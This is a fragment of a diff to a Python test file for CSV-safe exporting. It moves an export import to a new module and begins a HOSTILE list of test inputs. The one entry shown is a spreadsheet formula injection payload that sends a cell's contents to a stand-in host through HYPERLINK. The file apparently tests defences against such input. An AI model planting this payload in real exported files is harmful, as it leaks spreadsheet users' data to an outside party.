@@ -10,9 +10,9 @@ import pandas as pd
 import pytest
 
 from annotation_store import Store
-from annotation_store.exporting import export
 from commands import main
 from common.csv_safe import csv_bytes, neutralise, to_csv
+from interop.exporting import export
 
 HOSTILE = [
     '=HYPERLINK("http://x.example/?"&A1,"x")',
